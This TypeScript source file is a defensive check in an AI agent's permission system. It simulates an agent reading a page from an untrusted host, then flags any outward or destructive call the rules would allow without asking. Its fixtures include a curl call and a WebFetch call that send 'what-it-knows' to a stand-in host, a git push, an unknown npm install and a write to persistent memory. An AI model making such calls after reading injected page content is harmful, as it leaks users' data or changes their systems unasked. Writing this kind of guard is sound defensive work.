/** An agent that has read a stranger's words reaches nobody and destroys nothing unasked, whatever these rules allow. */
import type { TaintMark } from "../../machines/taint.ts";
import { NO_STRANGERS } from "../../registry/permission/taint.ts";
import { type Entry, toolResultEntry } from "../runtime/conversation.ts";
import { runConfigSchema } from "../runtime/run-row.ts";
import { taintIn } from "../runtime/taint.ts";
import { bash, DESTRUCTIVE } from "./destructive-calls.ts";
import { type Engine, type Finding, few, type Guarded, type Law, OURS } from "./law.ts";
import { pluginCalls } from "./sample-input.ts";
import { type Call, type Circumstances, distinct, everyWay, openTrial } from "./trial.ts";

/** No host of anybody: the name is reserved for this (RFC 6761). */
const STRANGER = "https://stranger.invalid/page";

/** It takes a network to do any harm. */
const PUSH = "git push origin main";

/** What could carry something out where there is a network, or into later runs. */
const OUTWARD: readonly Call[] = [
  {
    tool: "WebFetch",
    input: { url: "https://stranger.invalid/?q=what-it-knows" },
    says: "WebFetch of a stranger's host",
  },
  bash("curl https://stranger.invalid/?q=what-it-knows"),
  bash(PUSH),
  bash("npm install stranger-package"),
  bash("npm test"),
  bash("node build.mjs"),
  {
    tool: "Remember",
    input: { topic: "build", fact: "What a page said.", source: { path: "a.txt", line: 1, quote: "what it says" } },
    says: "Remember, for every later run",
  },
];

/** Hosts whose pages anybody may write: who vouches for one of them vouches for everybody. Ours, and no list is whole. */
const ANYBODYS =
  "github.com gist.github.com raw.githubusercontent.com gist.githubusercontent.com gitlab.com bitbucket.org pastebin.com stackoverflow.com reddit.com npmjs.com www.npmjs.com pypi.org docs.google.com medium.com *.github.io *.gitlab.io *.pages.dev *.vercel.app *.s3.amazonaws.com".split(
    " ",
  );

export const strangersAsked: Law = {
  law: "strangers-asked",
  title: "who read a stranger's words asks before it reaches out or destroys",
  look(guarded, engine) {
    const taint = afterPage(guarded, engine);
    const findings = anybodys(guarded);
    if (taint.length === 0) {
      findings.push({
        what: "a fetched page leaves no mark",
        why: "nothing is known of what an agent has read",
        fix: OURS,
      });
    }
    const acting = pluginCalls(guarded).filter(({ tool }) => guarded.capabilities.named(tool)?.risk !== "read-only");
    const calls = [...OUTWARD, ...DESTRUCTIVE, ...acting];
    const ways = everyWay(["edit"], ["ask", "deny", "allow-safe"]);
    for (const rules of [guarded.rules, widest(guarded)]) {
      const open = openIn(
        guarded,
        engine,
        calls,
        ways.map((way) => ({ ...way, rules, taint })),
      );
      if (open.length === 0) continue;
      const why = `decided by ${few(open.map(({ rule }) => rule))}`;
      findings.push({
        what: `unasked, although a page was read: ${few(open.map(({ says }) => says))}`,
        why,
        fix: OURS,
      });
      break;
    }
    const kinds = distinct(guarded.agents).length;
    const reason = `${calls.length} calls after a page of a stranger, ${kinds} kinds of agents, ${2 * ways.length} kinds of runs`;
    return { findings, reason };
  },
};

/** The marks of an agent that has fetched one page, by the door through which every result comes. */
function afterPage({ workspace, trust = NO_STRANGERS }: Guarded, { marked }: Engine): readonly TaintMark[] {
  const made: Entry = {
    role: "assistant",
    content: [{ type: "tool_use", id: "call", name: "WebFetch", input: { url: STRANGER } }],
  };
  const page = toolResultEntry("call", "a page", true, { did: { effect: "e", tool: "WebFetch", ok: true } });
  const { hosts, plugins, repository } = trust;
  const config = runConfigSchema.parse({ trust: { hosts: [...hosts], plugins: [...plugins], repository } });
  return taintIn(marked([page], [made], { workspace, config }));
}

/** Everything is allowed that a rule can allow; what is denied or asked about stays so. */
const widest = ({ rules, plugins }: Guarded): Guarded["rules"] => ({
  ...rules,
  allow: ["Bash", "Remember", "WebFetch", "Write", "Edit", ...plugins.map(({ server }) => `mcp__${server}`)],
});

function openIn(guarded: Guarded, engine: Engine, calls: readonly Call[], ways: readonly Circumstances[]) {
  const trial = openTrial(guarded, engine);
  return distinct(guarded.agents).flatMap(({ type }) =>
    calls.flatMap((call) => {
      if (!type.tools.includes(call.tool) && !call.tool.startsWith("mcp__")) return [];
      return ways.flatMap((way) => {
        const outcome = trial.ask(type, call, way);
        return outcome.decision === "allow" && !isHeld(call, way) ? [{ says: call.says, rule: outcome.rule }] : [];
      });
    }),
  );
}

/** In a full sandbox there is no network; what is destroyed in a tree of the run's own is a copy. */
const isHeld = (call: Call, { sandbox, isolated }: Circumstances): boolean =>
  call.tool === "Bash" && sandbox === "full" && (isolated || call.says === PUSH || !DESTRUCTIVE.includes(call));

function anybodys({ trust = NO_STRANGERS }: Guarded): Finding[] {
  const open = trust.hosts.filter((host) => ANYBODYS.includes(host));
  if (open.length === 0) return [];
  return [
    {
      what: `trust.hosts vouches for ${few(open)}`,
      why: "anybody may write there: a page of it can hold whatever a stranger wants an agent to do",
      fix: "Leave them out of trust.hosts; a rule WebFetch(domain:host) lets agents read there without vouching for it.",
    },
  ];
}
